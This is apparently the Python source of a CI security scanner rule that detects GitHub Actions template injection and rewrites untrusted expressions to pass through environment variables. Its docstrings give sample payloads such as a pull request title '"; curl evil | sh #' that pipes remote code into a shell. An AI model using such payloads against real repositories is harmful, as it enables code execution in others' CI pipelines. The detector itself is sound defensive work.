"""``gha-template-injection``: attacker-controllable ``${{ … }}`` expanded into a script.

GitHub substitutes ``${{ … }}`` into the script text *before* the shell parses it, so a pull
request title such as ``"; curl evil | sh #`` becomes code. The fix passes the value through an
environment variable instead, which the shell treats as data.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import ClassVar, Literal

from pydantic import BaseModel, ConfigDict

from bot.detectors.interface import Detection, WorkflowRule
from bot.knowledge.contexts import Provenance, built_in_variable
from bot.models import Confidence, Finding, Severity
from bot.risk import Disposition
from bot.workflow import expression_tree as expr
from bot.workflow.code_strings import code_string_reference
from bot.workflow.injection_sources import contexts_of, origin, variable_origin
from bot.workflow.matrix import matrix_texts, runs_on_choices
from bot.workflow.model import Step
from bot.workflow.posix_shell import (
    ENVIRONMENT_FILE,
    POSIX_SHELLS,
    environment_file_advice,
    spliced_variables,
)
from bot.workflow.run_starters import exposed
from bot.workflow.shell_quoting import Reference, javascript_reference, shell_name, shell_reference
from bot.workflow.template_scan import Expression, expressions
from bot.yamledit.document import Route
from bot.yamledit.ops import MergeInto, Operation, RewriteFragment


@dataclass(frozen=True)
class CodeInput:
    """An action input whose text the action runs as code."""

    language: str
    """``javascript`` or a shell name when mendbot can rewrite it, else a label."""
    no_fix: str | None = None
    """Why mendbot reports it without a fix (None: the step's ``env:`` reaches the code and
    the language is one mendbot rewrites)."""


#: Action inputs that are code, by lower-cased ``owner/repo[/path]`` and lower-cased input
#: name (inputs are case-insensitive). Each entry was checked against the action's own
#: ``action.yml``/README: the input is evaluated as a script, a template or command-line flags.
CODE_INPUTS: dict[str, dict[str, CodeInput]] = {
    "actions/github-script": {"script": CodeInput("javascript")},
    "amadevus/pwsh-script": {"script": CodeInput("pwsh")},
    "azure/powershell": {"inlinescript": CodeInput("pwsh")},
    "azure/cli": {
        "inlinescript": CodeInput(
            "bash",
            "the script runs in azure/cli's container; move the value into env: by hand and "
            "check that the container receives it",
        )
    },
    "jannekem/run-python-script-action": {
        "script": CodeInput(
            "python", "mendbot does not rewrite Python; read the value from os.environ by hand"
        )
    },
    "addnab/docker-run-action": {
        "run": CodeInput(
            "sh",
            "the script runs in the container the action starts, which does not see the "
            "step's env:; pass the value with `options: -e NAME` and read $NAME",
        ),
        "options": CodeInput(
            "docker options",
            "an expression in docker options can add any flag (`--privileged`, `-v /:/host`); "
            "keep untrusted values out of it",
        ),
    },
    "mikefarah/yq": {
        "cmd": CodeInput("sh", "mendbot does not rewrite yq's cmd; pass the value through env:")
    },
    "tibdex/backport": {
        "title_template": CodeInput(
            "lodash template", "lodash templates run `<% … %>` as JavaScript; there is no env:"
        ),
        "body_template": CodeInput(
            "lodash template", "lodash templates run `<% … %>` as JavaScript; there is no env:"
        ),
    },
    "appleboy/ssh-action": {
        "script": CodeInput(
            "remote shell",
            "the script runs on the remote host; forward the value with the action's `envs:`",
        )
    },
}


@dataclass(frozen=True)
class _Site:
    """A script that GitHub expands expressions into: a ``run:`` or an action's code input."""

    step: Step
    route: Route
    script: str
    languages: tuple[str, ...]
    """Every shell the script may run under (``bash``, ``pwsh``, ``cmd``, …: a matrix can
    pick the runner, and with it the default shell), or ``("javascript",)``."""
    action_input: str | None = None
    """``inlineScript of azure/cli`` for an action's input; None for ``run:``."""
    no_fix: str | None = None


def run_shells(step: Step) -> tuple[tuple[str, ...], str | None]:
    """The shells a ``run:`` step runs under: its ``shell:`` (or ``defaults.run.shell``), else
    the default of every runner ``runs-on`` can pick; no shells and why when ``runs-on`` is
    decided by something mendbot cannot see."""
    if step.shell and "${{" in step.shell:
        found = re.fullmatch(r"\$\{\{\s*(?P<inner>[^}]*?)\s*\}\}", step.shell.strip())
        texts = matrix_texts(step.job, found["inner"]) if found else None
        if not texts:
            return (), "`shell:` is decided at run time; fix by hand"
        return tuple(sorted({shell_name(t, []) for t in texts})), None
    if step.shell:
        return (shell_name(step.shell, []),), None
    choices = runs_on_choices(step.job)
    if choices is None:
        return (), (
            "`runs-on` is decided at run time, so mendbot cannot tell whether the default "
            "shell is bash or pwsh; set `shell:` on the step and run mendbot again"
        )
    return tuple(sorted({shell_name(None, labels) for labels in choices})), None


#: How a finding's message names where the value comes from.
_WHO = {
    Provenance.ATTACKER: "an outsider can set",
    Provenance.CALLER: "a caller mendbot cannot see chooses",
    Provenance.OUTSIDE_TEXT: "a step reads from where outsiders write",
    Provenance.UNKNOWN: "mendbot cannot see the origin of",
}


class InjectionOptions(BaseModel):
    """``rules.gha-template-injection.options``."""

    model_config = ConfigDict(frozen=True, extra="forbid", use_attribute_docstrings=True)

    untraced: Literal["exposed-runs", "everywhere"] = "exposed-runs"
    """Where values mendbot cannot trace (an action's output, a script's result that read the
    network) are reported: only in runs an outsider's event can start (`exposed-runs`), or
    also in runs only writers, pull-request authors or unseen callers start (``everywhere``,
    the auditor's view)."""


def _sites(step: Step) -> Iterator[_Site]:
    if step.run is not None:
        shells, unknown = run_shells(step)
        yield _Site(step, (*step.route, "run"), step.run, shells, no_fix=unknown)
    elif step.uses is not None and step.uses.owner:
        inputs = CODE_INPUTS.get(step.uses.slug, {})
        for name, value in step.with_.items():
            code = inputs.get(str(name).lower())
            if code is not None and isinstance(value, str):
                yield _Site(
                    step,
                    (*step.route, "with", str(name)),
                    value,
                    (code.language,),
                    f"`{name}` of {step.uses.owner}/{step.uses.repo}",
                    code.no_fix,
                )


def variable_name(context: str) -> str:
    """An environment variable name for a context: ``github.event.issue.title`` →
    ``ISSUE_TITLE`` (the ``GITHUB_`` prefix is left to the runner's own variables)."""
    path = re.sub(r"^github\.(event\.)?", "", context)
    path = re.sub(r"\[\s*'([^']*)'\s*\]", r".\1", path)
    path = re.sub(r"\[\s*(\d+)\s*\]", r".\1", path)
    name = re.sub(r"[^A-Za-z0-9]+", "_", path).strip("_").upper()
    return name if name and not name[0].isdigit() else f"CTX_{name}"


def _taken_names(step: Step) -> dict[str, object]:
    names: dict[str, object] = {}
    for scope in (step.workflow.env, step.job.env, step.env):
        names.update(scope)
    return names


_JS_NO_FIX = (
    "the expression is pasted into JavaScript as code (or into a string mendbot cannot read "
    "with certainty: a `/` before it outside strings and comments, two expressions in one "
    "literal); "
    "`process.env` would give a string where the code expected something else "
    "(`script: ${{ env.X }}` would become a script that does nothing): fix by hand"
)


def read_env_hint(language: str, name: str) -> str:
    """How ``language`` code reads environment variable ``name``."""
    return {
        "Python": f'os.environ["{name}"]',
        "JavaScript": f"process.env.{name}",
        "Ruby": f'ENV["{name}"]',
        "Perl": f"$ENV{{{name}}}",
        "PHP": f'getenv("{name}")',
        "PowerShell": f"$env:{name}",
    }.get(language, f'"${name}" inside single quotes')


def _one_reference(site: _Site, occurrence: Expression, name: str) -> Reference:
    """The text that reads ``name`` at ``occurrence`` under every shell of ``site``, or
    ``Reference(None, why)``: a fix must be valid for each shell the step may run under."""
    found: dict[str, Reference] = {}
    for shell in site.languages:
        ref = shell_reference(shell, site.script, occurrence.start, occurrence.end, name)
        if ref.code is not None and shell in POSIX_SHELLS:
            ref = code_string_reference(site.script, occurrence.start, occurrence.end, name)
        if ref.text is None:
            return Reference(None, ref.why or f"mendbot cannot rewrite this {shell} script")
        found[shell] = ref
    if len(set(found.values())) != 1:
        return Reference(
            None,
            (
                f"the step runs under {' and '.join(found)} (the matrix picks the shell or "
                "the runner) and no one "
                "reference reads a variable in all of them; set `shell:` on the step, or fix by "
                "hand"
            ),
        )
    return next(iter(found.values()))


class TemplateInjection(WorkflowRule):
    """Report ``${{ … }}`` of untrusted contexts in scripts; move them into ``env:``."""

    id: ClassVar[str] = "gha-template-injection"
    title: ClassVar[str] = "untrusted expression expanded into a script"
    description: ClassVar[str] = (
        "GitHub replaces `${{ … }}` in `run:` (and in `actions/github-script`'s `script`) "
        "*before* the shell or Node.js reads it, so an issue title, a branch name or a commit "
        'message becomes code (`a"; curl evil | sh; #`). The fix moves each expression into '
        "the step's `env:` and reads the variable from the script, where it is data. The "
        "script is read with the shell's own nesting (quotes inside `$(…)` inside quotes, "
        "heredocs, comments), and the reference keeps the meaning the place had: "
        '`"${ISSUE_TITLE}"` where the expression was bare, `${ISSUE_TITLE}` inside double '
        "quotes and unquoted heredocs, `'\"${ISSUE_TITLE}\"'` inside single quotes (closed and "
        "reopened). In a word list the author relies on being split (`for f in ${{ … }}`, "
        "`arr=(${{ … }})`, `set -- ${{ … }}`) the variable stays unquoted, `${FILES}`: the "
        "shell splits it on blanks and expands globs as it did the pasted text, but never "
        "parses it as code (no `$(…)`, `;` or quotes); `set -f` is not added, since it would "
        "change every other glob of the script. PowerShell gets `$env:ISSUE_TITLE` "
        "(`${env:ISSUE_TITLE}` before a letter inside a string), github-script "
        "`process.env.ISSUE_TITLE` for a whole "
        "string literal, `${process.env.ISSUE_TITLE}` in a template literal and "
        '`("Re: " + process.env.ISSUE_TITLE + "")` inside a longer quoted literal on one '
        "line (parenthesised, so `.length` after it still applies to the whole string). "
        "Contexts the runner already exports are reused without a new `env:` entry "
        "(`github.head_ref` → `GITHUB_HEAD_REF`), `env.X` becomes `$X`, and names never "
        "clash with existing variables. An expression that computes a string from such values "
        "moves into `env:` whole, where GitHub evaluates the same text to the same string: "
        "`format('Re: {0}', github.event.issue.title)`, `toJSON(…)` (named `…_JSON`), "
        "`join(…)`, `a || 'default'` (and `&&`) of contexts and literals, and a field of "
        "`fromJSON(…)`; not one that reads a variable of the step's own `env:` (an `env:` value "
        "cannot see its siblings) or may be something other than a string (a comparison inside "
        "`a && b || c`).\n\n"
        "A fix is offered only when it is valid for every shell the step runs under: a "
        "`runs-on` picked by the matrix (`${{ matrix.os }}-latest`) is expanded over the "
        "matrix's values, and a step that may run under both bash and pwsh (or whose runner "
        "is decided at run time) without a `shell:` is reported without a fix.\n\n"
        "Inside a string another program runs as code (`python3 -c '…'`, `node -e`, "
        "`ruby -e`, `perl -e`, `bash -c`, `sh -c`, `eval`) a shell variable would still be "
        "code, so the value is read inside that language: a whole string literal "
        '`"${{ … }}"` becomes `__import__("os").environ["X"]`, `process.env.X`, '
        "`ENV[\"X\"]` or `$ENV{X}`, and in `bash -c '…'`/`eval '…'` (single quotes, so the "
        "inner shell gets the text as written) the inner shell's own reference is used.\n\n"
        "Reported without a fix, because no environment variable would make the value data: "
        "a value that is the command itself (`${{ matrix.cmd }}` or `${{ env.TOOL }} merge` "
        "where a command starts: whoever sets it chooses what runs, and a quoted variable "
        "would run one program named by the whole value), "
        "any other place in such a code string (text around the expression in the literal, "
        "f-strings, a code string in double quotes), PowerShell's `Invoke-Expression`, a pipe "
        "into an interpreter such as `| sh` or an unquoted heredoc it reads (`python3 - <<PY`), "
        "a line that writes to `$GITHUB_ENV` or "
        "`$GITHUB_PATH` (a newline in "
        "the value sets any variable for the later steps), in backticks, "
        "arithmetic (`$((…))`, `[[ … -eq … ]]`, where bash runs `$(…)` hidden in an array "
        "subscript), `${…}` parameter expansions, quoted heredocs, PowerShell single quotes "
        "and here-strings, cmd (which expands `%VAR%` before parsing), github-script code "
        "where the expression is code rather than a string (`script: ${{ env.CHECK_SCRIPT }}` "
        "would become a script that does nothing), and the computed expressions named above "
        "as not moved. The rule also finds the hole a variable does not "
        "close: `python3 -c \"print('$TITLE')\"` with `TITLE: ${{ github.event.issue.title }}` "
        "pastes the title into Python source all the same, and is reported, as is such a "
        "variable written to `$GITHUB_ENV`, also by an inner shell it is handed to as an "
        'argument or through a pipe (`bash -c \'echo "T=$1" >> "$GITHUB_ENV"\' _ "$TITLE"`); '
        "an argument of the command before such an inner shell is not written there.\n\n"
        "Severity is high for contexts an outsider controls (issue, pull request, "
        "comment, commit and release texts, branch names, and values computed from one "
        "of them: an `env.X`, a step output, a matrix, an input a caller of the "
        "repository fills with one), and medium for the rest that is reported: an input "
        "chosen by a caller mendbot cannot see (a free-text input of a reusable workflow "
        "no workflow of the repository calls, of a composite action no workflow uses, or "
        "of a published action at a repository's root), a value a step reads from where "
        "outsiders write (`gh issue view`, `gh pr list`, `gh api`, GitHub's API read with "
        "`curl` or by an `actions/github-script` script, the event payload, commit "
        "messages with `git log`, artifacts, the file names `tj-actions/changed-files` or "
        "`dorny/paths-filter`'s `<filter>_files` list, the title and body of the pull "
        "request `8BitJonny/gh-get-current-pr` finds, a dispatch input another workflow "
        "fills), and, in a run an outsider's event can "
        "start (`pull_request_target`, `issues`, `issue_comment`, `workflow_run`, … "
        "through the workflow's own `on:` or a workflow of the repository that calls "
        "it), any value mendbot cannot trace (an unknown action's output, a script's "
        "result that read the network). In other runs such an untraced value is reported "
        "only in the auditor's view, `options.untraced: everywhere`: nothing says an "
        "outsider wrote it, and zizmor does not report it either. Each distinct "
        "expression is reported once per script (the fix moves every occurrence). The "
        "fix is **unsafe**: quoting changes how a value with spaces is split, which is "
        "the point, but may surprise a script.\n"
        "\n"
        "Not reported, because no one without write access can choose the value, or gain "
        "anything by choosing it (mendbot looks up where each value comes from in the "
        "workflow, and across calls):\n"
        "\n"
        "- values an outsider cannot shape into code: an expression that evaluates to "
        "`true` or `false` (a comparison, `!`, `contains()`, `startsWith()`), and a pull "
        "request's head commit SHA, repository and user ids and fork flag;\n"
        "- values written in the workflow: literal-only expressions (`${{ 'text' }}`), a "
        "matrix whose values for the key are all written out (its lists, `include:` "
        "entries and nested keys such as `matrix.platform.target`, whatever their text, "
        "`toJSON` of them included), an `env.X` declared with a literal (unless an "
        "earlier `run:` may overwrite it through `$GITHUB_ENV` with a value the next "
        "items do not trust);\n"
        "- `workflow_dispatch` inputs (`inputs.x`, `github.event.inputs.x`): only people "
        "with write access can dispatch a workflow, and a `choice`, `number` or "
        "`boolean` input is checked by GitHub too. A free-text dispatch input stays "
        "reported when a workflow of the repository starts dispatch runs itself (`gh "
        "workflow run`, `createWorkflowDispatch`, a dispatch action) and names it by its "
        "file or not at all (the workflow's `name:`, its id or a variable may be any "
        "workflow): it may pass along an issue title;\n"
        "- inputs of a reusable workflow (`workflow_call`) or of a composite action "
        "under `.github/` that the repository's own workflows call (`uses: ./…` or the "
        "self-repository `uses: $/…`; for an action, also its composite actions under "
        "`.github/` or at its root) with values nobody else chooses: each caller's "
        "`with:` (or the input's default) is traced where the caller evaluates it;\n"
        "- outputs of well-known actions whose values are constrained "
        "(`actions/checkout`'s `commit`, and its `ref` unless its `ref:` input is "
        "untrusted; `cache-hit`; `dorny/paths-filter`'s `changes`, the filter names);\n"
        "- values the repository's own code computes (a `run:` writing `$GITHUB_OUTPUT` "
        "or `$GITHUB_ENV`, a local action, `github.ref`; a local reusable workflow's "
        "outputs are traced to the step that computes them) from trusted values, in a "
        "workflow only writers' events start (`push`, `schedule`, `workflow_dispatch`, "
        "`release`, `merge_group`, …) or those plus pull-request events, unless the "
        "script reads what outsiders write (above). `gh pr create`, `gh issue create` "
        "and other gh commands that write print only the URL GitHub gives;\n"
        "- in a workflow only `pull_request` events start, any value mendbot cannot "
        "trace: the run uses the pull request's own copy of the workflow with a "
        "read-only token, so its author already decides what it executes. The texts an "
        "outsider controls (the pull request's title, body, branch) are still reported "
        "there.\n"
        "\n"
        "Known limits: a local action, or a script a `run:` calls "
        "(`bin/bump-version.rb`), is not read, so one that fetches an outsider's text "
        "and outputs it in a `push` or `schedule` run is not reported; a reusable "
        "workflow or composite action the repository calls is not reported either when "
        "another repository also calls it with an outsider's text; a repository that "
        "gives fork pull requests secrets or a write token loses the `pull_request` "
        "argument.\n"
        "\n"
        "Besides `run:`, the inputs of actions that run their text as code are checked: "
        "`actions/github-script` `script`, `Amadevus/pwsh-script` `script` and "
        "`azure/powershell` `inlineScript` (fixed like `run:`: the step's `env:` reaches "
        "them), and, reported without a fix, `azure/cli` `inlineScript`, "
        "`jannekem/run-python-script-action` `script`, `addnab/docker-run-action` `run` and "
        "`options`, `mikefarah/yq` `cmd`, `tibdex/backport` `title_template`/`body_template` "
        "(lodash templates) and `appleboy/ssh-action` `script`.\n\n"
        "Compared with zizmor's `template-injection`: zizmor's pedantic persona reports every "
        "expression in a script, including trusted ones (`github.sha`, `secrets.*`, "
        "`steps.x.outcome`, `needs.x.result`, literals); mendbot reports only values an "
        "outsider or an unseen caller may choose, and (by default) untraced ones only where "
        "an outsider can start the run. zizmor also reports, at low "
        "confidence, names that are not contexts at all (`${{ foo.bar }}`) and numbers reached "
        "through a compound (`(github.event.pull_request || github.event.issue).number`), and, "
        "at high severity, logins (`github.event.pull_request.user.login`: letters, digits "
        "and hyphens only) and label names (created by the repository's triagers, not by "
        "outsiders); mendbot reports none of these. Steps nested in a `parallel:` group are "
        "analysed like any other step."
    )
    default_severity: ClassVar[Severity] = Severity.HIGH
    fix_disposition: ClassVar[Disposition | None] = Disposition.UNSAFE
    options_model: ClassVar[type[BaseModel] | None] = InjectionOptions
    example_before: ClassVar[str] = """\
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue: ${{ github.event.issue.title }}"
"""
    example_after: ClassVar[str] = """\
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue: ${ISSUE_TITLE}"
        env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
"""

    def visit_step(self, step: Step) -> Iterator[Detection]:
        """Check the step's script for dangerous expressions, and for variables the shell
        splices into code another program runs."""
        for site in _sites(step):
            yield from self._check(site)
            if site.action_input is None and site.languages and set(site.languages) <= POSIX_SHELLS:
                yield from self._spliced(site)

    def _spliced(self, site: _Site) -> Iterator[Detection]:
        """``python3 -c "print('$TITLE')"`` with ``TITLE: ${{ github.event.issue.title }}``:
        the environment variable is data to the shell, but the shell pastes it into Python
        source, so the value is code again."""
        seen: set[str] = set()
        for variable in spliced_variables(site.script):
            source = variable_origin(site.step, variable.name)
            if source is None or "${{" not in source[0] or variable.text in seen:
                continue
            value, origin_ = source
            if not self._reported(origin_, site.step):
                continue
            seen.add(variable.text)
            attacker = origin_ is Provenance.ATTACKER
            who = _WHO[origin_]
            if variable.language == ENVIRONMENT_FILE:
                sink = (
                    f"writes it to `{variable.program}`, where a newline in it sets any "
                    "variable for the later steps: code injection"
                )
                advice = environment_file_advice(variable.program)
            else:
                sink = (
                    f"pastes it into {variable.language} code that `{variable.program}` runs: "
                    "code injection"
                )
                advice = (
                    f"read the value inside the {variable.language} code "
                    f"({read_env_hint(variable.language, variable.name)}) instead of pasting it"
                )
            finding = self.finding(
                site.step.workflow,
                site.route,
                f"`{variable.text}` holds `{value}`, which {who}, and the shell {sink}",
                evidence=variable.text,
                confidence=Confidence.HIGH if attacker else Confidence.MEDIUM,
                severity=self.severity if attacker else Severity.MEDIUM,
            )
            yield Detection(finding, None, advice)

    def _reported(self, source: Provenance, step: Step) -> bool:
        """Whether a value of ``source`` is reported where ``step`` reads it: an outsider's or
        an unseen caller's always; one mendbot cannot trace when an outsider's event can start
        the run (or when ``options.untraced`` is ``everywhere``)."""
        if source in (Provenance.ATTACKER, Provenance.CALLER, Provenance.OUTSIDE_TEXT):
            return True
        if source is not Provenance.UNKNOWN:
            return False
        options = self.options
        everywhere = isinstance(options, InjectionOptions) and options.untraced == "everywhere"
        return everywhere or exposed(step.workflow)

    def _check(self, site: _Site) -> Iterator[Detection]:
        reported: set[str] = set()
        for expression in expressions(site.script):
            # One finding per distinct expression: its fix moves every occurrence at once.
            if expression.text in reported:
                continue
            worst = self._worst(expression, site.step)
            if worst is None or not self._reported(worst[1], site.step):
                continue
            context, source = worst
            severity = self.severity if source is Provenance.ATTACKER else Severity.MEDIUM
            who = _WHO[source]
            into = "the script" if site.action_input is None else site.action_input
            finding = self.finding(
                site.step.workflow,
                site.route,
                f"`{expression.text}` expands `{context}`, which {who}, into {into} "
                "before it runs: code injection",
                evidence=expression.text,
                confidence=Confidence.HIGH if source is Provenance.ATTACKER else Confidence.MEDIUM,
            ).model_copy(update={"severity": severity})
            reported.add(expression.text)
            yield self._fixed(finding, site, expression)

    @staticmethod
    def _worst(expression: Expression, step: Step) -> tuple[str, Provenance] | None:
        ranked = [(c, origin(c, step)) for c in contexts_of(expression)]
        for wanted in (
            Provenance.ATTACKER,
            Provenance.CALLER,
            Provenance.OUTSIDE_TEXT,
            Provenance.UNKNOWN,
        ):
            for context, found in ranked:
                if found is wanted:
                    return context, found
        return None

    def _fixed(self, finding: Finding, site: _Site, expression: Expression) -> Detection:
        if site.no_fix is not None:
            return Detection(finding, None, site.no_fix)
        context = expression.single_context
        if context is None:
            computed = _computed_variable(site.step, expression)
            if isinstance(computed, _Refused):
                return Detection(finding, None, computed.why)
            name, new_env = computed
            context = expression.inner
        else:
            name, new_env = self._variable(site.step, context, expression.text)
        patches: list[Operation] = []
        occurrences = [e for e in expressions(site.script) if e.text == expression.text]
        # Every occurrence of the same expression moves at once: the finding must disappear.
        for occurrence in occurrences:
            if site.languages == ("javascript",):
                span = javascript_reference(site.script, occurrence.start, occurrence.end, name)
                if span is None:
                    return Detection(finding, None, _JS_NO_FIX)
                start, end, js = span
                patches.append(
                    RewriteFragment(
                        route=site.route, fragment=site.script[start:end], replacement=js
                    )
                )
                continue
            ref = _one_reference(site, occurrence, name)
            if ref.text is None:
                return Detection(finding, None, ref.why)
            start, end = ref.span or (occurrence.start, occurrence.end)
            patches.append(
                RewriteFragment(
                    route=site.route, fragment=site.script[start:end], replacement=ref.text
                )
            )
        if new_env:
            patches.append(
                MergeInto(route=site.step.route, key="env", value={name: expression.text})
            )
        return Detection(
            finding,
            self.fix(finding, f"pass {context} through the environment as {name}", patches),
        )

    @staticmethod
    def _variable(step: Step, context: str, expression_text: str) -> tuple[str, bool]:
        """The variable to read and whether a new ``env:`` entry is needed."""
        built_in = built_in_variable(context)
        if built_in is not None:
            return built_in, False
        if context.lower().startswith("env.") and re.fullmatch(r"env\.[A-Za-z_]\w*", context):
            return context[4:], False
        taken = _taken_names(step)
        base = variable_name(context)
        for candidate in [base, *(f"{base}_{n}" for n in range(2, 100))]:
            current = step.env.get(candidate)
            if current == expression_text:
                return candidate, False  # the step already passes exactly this value
            if candidate not in taken:
                return candidate, True
        return f"{base}_{len(taken)}", True


@dataclass(frozen=True)
class _Refused:
    """Why a computed expression stays where it is."""

    why: str


#: Calls whose result is always a string, so the variable holds exactly what was pasted.
_STRING_CALLS = frozenset({"format", "join", "tojson"})
#: What a variable holding such a call's result is named after its context (``_JSON``, …).
_CALL_SUFFIX = {"tojson": "_JSON", "join": "_JOINED"}


def _computed_variable(step: Step, expression: Expression) -> tuple[str, bool] | _Refused:
    """The variable for an expression that computes a value (``format('{0}', …)``,
    ``toJSON(…)``, ``join(…)``, ``a || b``, ``fromJSON(…).key``): GitHub evaluates the same text
    in the step's ``env:`` to the same string it pastes into the script, so the whole
    expression moves. Refused when the value may not be a string (an object pasted as text
    reads differently from one in ``env:``), or when it reads a variable of the step's own
    ``env:``, which an ``env:`` value cannot see."""
    try:
        tree = expr.parse(expression.inner)
    except expr.ExpressionError:
        return _Refused("mendbot cannot parse the expression: fix by hand")
    if not _string_valued(tree):
        return _Refused(
            "only one context, or a `format`/`join`/`toJSON` call, `a || b` or a field of "
            "`fromJSON(…)` is moved into env: (another expression may not be a string): "
            "fix by hand"
        )
    own = {str(key).lower(): str(key) for key in step.env}
    every = _every_context(tree)
    for context in every:
        if context.parts[:1] != ("env",) or not own:
            continue
        if context.parts[1:2] in ((), ("?",)):  # `env` whole, or `env[<computed>]`
            return _Refused(
                "the expression reads the `env` context whole or by a computed name, so also "
                "the step's own `env:`, which a value of that `env:` cannot see: fix by hand"
            )
        if context.parts[1] in own:
            return _Refused(
                f"the expression reads `env.{own[context.parts[1]]}` of the step's own `env:`, "
                "which a value of that `env:` cannot see: fix by hand"
            )
    readable = [c for c in every if c.base is None and c.parts[0] != "<call>"]
    base = variable_name(readable[0].path) if readable else "VALUE"
    if isinstance(tree, expr.Call):
        base += _CALL_SUFFIX.get(tree.name, "")
    taken = _taken_names(step)
    for candidate in [base, *(f"{base}_{n}" for n in range(2, 100))]:
        if step.env.get(candidate) == expression.text:
            return candidate, False
        if candidate not in taken:
            return candidate, True
    return _Refused("no free variable name: fix by hand")


def _every_context(node: expr.Node) -> list[expr.Context]:
    """Every context ``node`` reads, also those inside a call whose result is indexed."""
    found: list[expr.Context] = []
    for child in expr.walk(node):
        if isinstance(child, expr.Context):
            found.append(child)
            if child.base is not None:
                found.extend(_every_context(child.base))
    return found


def _string_valued(node: expr.Node) -> bool:
    """Whether ``node`` certainly evaluates to a string or a scalar field."""
    if isinstance(node, expr.Call):
        return node.name in _STRING_CALLS
    if isinstance(node, expr.Context):
        return node.base is not None  # `fromJSON(…).key`; a plain context is single_context
    if isinstance(node, expr.Binary) and node.op in ("||", "&&"):
        return all(
            isinstance(side, (expr.Literal, expr.Context)) or _string_valued(side)
            for side in (node.left, node.right)
        )
    return False
